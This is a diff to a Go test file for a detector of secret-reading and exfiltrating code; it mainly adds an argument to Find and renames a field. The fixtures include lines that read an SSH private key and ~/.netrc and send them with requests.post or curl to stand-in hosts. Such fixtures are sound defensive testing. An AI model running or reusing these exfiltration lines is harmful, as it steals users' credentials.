@@ -20,10 +20,10 @@ func TestBounds(t *testing.T) {
 	t.Parallel()
 	var why []string
 	cut := func(_, what string) { why = append(why, what) }
-	if found := Find([]Text{text("a.py", crowd(maxTold/2))}, nil, cut); len(found) != maxTold/2 || len(why) != 0 {
+	if found := Find([]Text{text("a.py", crowd(maxTold/2))}, nil, nil, cut); len(found) != maxTold/2 || len(why) != 0 {
 		t.Errorf("%d are found, and %q is told", len(found), why)
 	}
-	if found := Find([]Text{text("a.py", crowd(maxTold+5))}, nil, cut); len(found) != maxTold || len(why) != 1 {
+	if found := Find([]Text{text("a.py", crowd(maxTold+5))}, nil, nil, cut); len(found) != maxTold || len(why) != 1 {
 		t.Errorf("%d are found, and %q is told", len(found), why)
 	}
 }
@@ -35,7 +35,7 @@ func TestLongStatement(t *testing.T) {
 	for lines, want := range map[int]string{maxLines / 2: "key:1 x.example:LINE body apart", maxLines + 5: "key:1 x.example:LINE body"} {
 		told := 0
 		source := "k = open('/home/me/.ssh/id_rsa').read()\nn = {\n" + strings.Repeat("  'a': 1,\n", lines) + "}\nrequests.post('https://x.example/', data=n)\n"
-		got := shownOf(Find([]Text{text("a.py", source)}, nil, func(string, string) { told++ }))
+		got := shownOf(Find([]Text{text("a.py", source)}, nil, nil, func(string, string) { told++ }))
 		if want := strings.ReplaceAll(want, "LINE", fmt.Sprint(lines+4)); got != want || (told > 0) != (lines > maxLines) {
 			t.Errorf("%d lines: %q is found, want %q, and %d gaps are told", lines, got, want, told)
 		}
@@ -47,7 +47,7 @@ func TestPairs(t *testing.T) {
 	t.Parallel()
 	told := false
 	source := strings.Repeat("x=$(cat ~/.netrc)\ncurl -d \"$x\" https://h.example/\n", 500)
-	found := Find([]Text{text("a.sh", source)}, nil, func(_, what string) { told = told || strings.Contains(what, fmt.Sprint(maxPairs)) })
+	found := Find([]Text{text("a.sh", source)}, nil, nil, func(_, what string) { told = told || strings.Contains(what, fmt.Sprint(maxPairs)) })
 	if !told || len(found) == 0 {
 		t.Errorf("told: %t, %d are found", told, len(found))
 	}
@@ -59,8 +59,8 @@ func TestWork(t *testing.T) {
 	of := text("a.py", "k = open('/home/me/.ssh/id_rsa').read()\nn = 1\nrequests.post('https://x.example/', data=n)\n")
 	for left, want := range map[int]string{maxWork: "key:1 x.example:3 body apart", 0: ""} {
 		told := 0
-		f := &finder{told: map[string]int{}, work: work{left: left}, cut: func(string, string) { told++ }}
-		f.look(unite([]Text{of}, func(string, string) {}))
+		f := &finder{told: map[string]int{}, steps: steps{left: left}, cut: func(string, string) { told++ }}
+		f.look(unite([]Text{of}, nil, func(string, string) {}))
 		if got := shownOf(f.found); got != want || (told > 0) != (left == 0) {
 			t.Errorf("with work for %d: %q is found, and %d gaps are told", left, got, told)
 		}
@@ -94,7 +94,7 @@ func TestLeftOut(t *testing.T) {
 		"one takes in the other":        {long, true},
 	} {
 		var why []string
-		Find(c.texts, nil, func(file, what string) { why = append(why, file+": "+what) })
+		Find(c.texts, nil, nil, func(file, what string) { why = append(why, file+": "+what) })
 		if (len(why) > 0) != c.want {
 			t.Errorf("%s: %q is told", name, why)
 		}
@@ -112,7 +112,7 @@ func BenchmarkManyNames(b *testing.B) {
 			source := text("a.py", lines.String())
 			one := read(&source.Text, "python")
 			for b.Loop() {
-				g := &group{work: &work{left: maxWork}, programs: []*program{one}}
+				g := &group{steps: &steps{left: maxWork}, programs: []*program{one}}
 				g.load()
 			}
 		})
